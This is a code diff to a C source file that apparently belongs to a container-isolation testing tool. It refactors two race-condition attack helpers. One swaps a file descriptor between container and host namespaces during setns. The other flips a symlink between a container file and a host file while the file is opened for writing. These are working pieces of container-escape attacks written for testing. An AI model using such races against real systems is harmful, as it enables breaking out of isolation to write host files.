@@ -1,20 +1,16 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /* Races with the deciding programs: what they look at is replaced while they look. */
 #include "adversary.h"
-#include <pthread.h>
 
-static volatile int over;
 static int own_fd, host_fd, used_fd;
 
 /* The descriptor is at one time of the container's namespace, at another of the host's. */
-static void *flip_descriptor(void *unused)
+__attribute__((noreturn)) static void flip_descriptor(void)
 {
-	(void)unused;
-	while (!over) {
+	for (;;) {
 		dup2(own_fd, used_fd);
 		dup2(host_fd, used_fd);
 	}
-	return NULL;
 }
 
 /*
@@ -36,7 +32,7 @@ static int attack_enter_race(char **args)
 	flipper = syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL);
 	need(flipper >= 0, "clone");
 	if (!flipper)
-		flip_descriptor(NULL);
+		flip_descriptor();
 	snprintf(path, sizeof(path), "%s", word(args, 1, "/proc/self/ns/uts"));
 	while (tries++ < most && now_ms() < end) {
 		if (setns(used_fd, number(args, 2, 0)))
@@ -56,10 +52,9 @@ static int attack_enter_race(char **args)
 
 static const char *link_name, *link_here, *link_there;
 
-static void *flip_link(void *unused)
+__attribute__((noreturn)) static void flip_link(void)
 {
-	(void)unused;
-	while (!over) {
+	for (;;) {
 		unlink(link_name);
 		if (symlink(link_here, link_name))
 			continue;
@@ -67,7 +62,6 @@ static void *flip_link(void *unused)
 		if (symlink(link_there, link_name))
 			continue;
 	}
-	return NULL;
 }
 
 /* write_race OWN HOST TEXT MILLISECONDS: a link leads to a file of the container, then of the host. */
@@ -84,7 +78,7 @@ static int attack_write_race(char **args)
 	flipper = fork();
 	need(flipper >= 0, "fork");
 	if (!flipper)
-		flip_link(NULL);
+		flip_link();
 	while (now_ms() < end) {
 		int fd = open(link_name, O_WRONLY);
 
